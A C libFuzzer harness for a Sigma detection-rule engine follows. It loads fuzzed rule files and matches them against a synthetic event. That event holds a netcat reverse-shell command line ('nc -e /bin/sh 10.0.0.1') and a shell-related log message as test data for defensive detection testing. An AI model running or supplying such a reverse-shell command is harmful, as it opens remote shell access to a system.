/*
 * libFuzzer driver for the Sigma loader: the input is a rule file
 * (any number of YAML documents), loaded, compiled against the
 * built-in mapping, and every loaded rule is matched against one
 * event and explained.  No input may crash, leak or hang the engine;
 * every rule that is not loaded must say why.
 */

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "sigma.h"

int		 LLVMFuzzerTestOneInput(const uint8_t *, size_t);

static struct sigma_map	*map;

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct sigma_set	*set;
	struct sigma_rule	*r;
	struct siem_event	 ev;
	struct sigma_event	 se;
	json_t			*j;
	size_t			 i;

	if (map == NULL && (map = sigma_map_default()) == NULL)
		abort();
	set = sigma_set_new(map);
	sigma_set_add_file(set, "fuzz.yml", (const char *)data, size);
	sigma_set_compile(set);

	event_init(&ev);
	event_set(&ev, EV_APP, "sshd", 4);
	event_set(&ev, EV_EVENT_TYPE, "process_start", 13);
	event_set(&ev, EV_SOURCE_TYPE, "audit", 5);
	event_set(&ev, EV_MESSAGE, "error: a -p /bin/sh aHR0cA==", 28);
	event_set(&ev, EV_PROCESS_CMDLINE, "nc -e /bin/sh 10.0.0.1", 22);
	event_set(&ev, EV_SRC_IP, "2001:db8::1", 11);
	event_set(&ev, EV_HTTP_PATH, "/a.php", 6);
	event_set(&ev, EV_HTTP_QUERY, "x=1", 3);
	ev.ints[EV_HTTP_STATUS] = 404;
	ev.ts = 1709608620000000LL;
	event_data_setstr(&ev, "type", "EXECVE", 6);
	event_data_set(&ev, "a0", json_integer(7));
	sigma_event_from_event(&se, &ev);
	sigma_match(set, &se, NULL, NULL);
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++) {
		if (r->state != SIGMA_LOADED && r->reason[0] == '\0')
			abort();
		if (sigma_explain(r, &se, &j) == 0 && j == NULL)
			abort();
		json_decref(j);
	}
	sigma_event_done(&se);
	event_clear(&ev);
	sigma_set_free(set);
	return (0);
}
